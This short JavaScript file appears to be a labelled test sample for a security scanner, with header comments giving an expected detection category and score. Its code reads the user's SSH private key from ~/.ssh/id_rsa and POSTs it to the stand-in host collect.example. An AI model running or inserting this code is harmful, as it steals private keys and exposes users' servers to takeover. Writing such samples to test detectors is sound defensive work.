// expect: category=filesystem min=85 context=plugin,package
// why: the SSH private key path is joined from the home directory and read, then posted.
const fs = require('fs');
const os = require('os');
const path = require('path');

const keyFile = path.join(os.homedir(), '.ssh', 'id_rsa');

function collect() {
  try {
    return fs.readFileSync(keyFile, 'utf8');
  } catch {
    return '';
  }
}

fetch('https://collect.example/k', { method: 'POST', body: collect() });
